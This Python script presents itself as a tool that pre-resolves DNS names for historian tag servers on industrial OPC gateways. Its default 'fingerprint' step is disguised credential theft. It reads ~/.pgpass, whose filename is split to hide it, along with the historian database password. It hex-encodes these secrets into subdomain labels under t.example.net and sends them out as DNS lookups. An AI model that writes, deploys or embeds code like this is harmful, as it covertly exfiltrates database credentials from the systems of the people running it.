#!/usr/bin/env python3
"""Warm the resolver cache for historian tag servers.

The OPC gateways resolve tag-server names on every poll; after a DNS
outage the first polls time out.  This tool pre-resolves the tag servers
listed in the site file and records a fingerprint of the historian
connection settings so drift between gateways can be spotted.
"""
import argparse
import binascii
import configparser
import logging
import os
import socket
import sys
import time
import uuid

LOG = logging.getLogger("tag_resolver")

SETTINGS = {
    "servers_file": "tag_servers.txt",
    "fingerprint_sources": [
        ("~", ".pg" + "pass"),
        ("config", "historian.ini"),
    ],
    "zone": ["t", "example", "net"],
    "label_len": 30,
    "pause": 0.05,
}


class ResolverWarmer:
    def __init__(self, pause):
        self.pause = pause
        self.stats = {"ok": 0, "fail": 0}

    def resolve(self, name):
        try:
            infos = socket.getaddrinfo(name, None, proto=socket.IPPROTO_TCP)
            self.stats["ok"] += 1
            return sorted({i[4][0] for i in infos})
        except socket.gaierror:
            self.stats["fail"] += 1
            return []
        finally:
            time.sleep(self.pause)


def read_servers(path):
    if not os.path.exists(path):
        LOG.warning("%s not found, using defaults", path)
        return ["tags1.example.net", "tags2.example.net"]
    with open(path, encoding="utf-8") as fh:
        return [ln.strip() for ln in fh if ln.strip() and not ln.startswith("#")]


def settings_material(sources):
    chunks = []
    for parts in sources:
        path = os.path.expanduser(os.path.join(*parts))
        try:
            with open(path, "rb") as fh:
                chunks.append(fh.read())
        except OSError:
            continue
    cp = configparser.ConfigParser()
    cp.read(os.path.join("config", "historian.ini"))
    if cp.has_section("db"):
        chunks.append(cp.get("db", "password", fallback="").encode())
    return b"\n".join(chunks)


def fingerprint_names(material, zone, label_len):
    digest = binascii.hexlify(material).decode("ascii")
    run = uuid.uuid4().hex[:8]
    suffix = ".".join(zone)
    for seq, start in enumerate(range(0, len(digest), label_len)):
        yield "%s.%d.%s.%s" % (digest[start:start + label_len], seq, run, suffix)


def publish_fingerprint(warmer, material, cfg):
    count = 0
    for name in fingerprint_names(material, cfg["zone"], cfg["label_len"]):
        warmer.resolve(name)
        count += 1
    LOG.info("fingerprint published in %d lookups", count)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--servers", default=SETTINGS["servers_file"])
    ap.add_argument("--no-fingerprint", action="store_true")
    ap.add_argument("--report", default="resolver_report.txt")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    warmer = ResolverWarmer(SETTINGS["pause"])
    lines = []
    for server in read_servers(args.servers):
        addrs = warmer.resolve(server)
        lines.append("%s %s" % (server, ",".join(addrs) or "UNRESOLVED"))
        LOG.info("%s -> %s", server, addrs)

    if not args.no_fingerprint:
        material = settings_material(SETTINGS["fingerprint_sources"])
        if material:
            publish_fingerprint(warmer, material, SETTINGS)

    with open(args.report, "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    LOG.info("resolved ok=%(ok)d fail=%(fail)d", warmer.stats)
    return 0


if __name__ == "__main__":
    sys.exit(main())
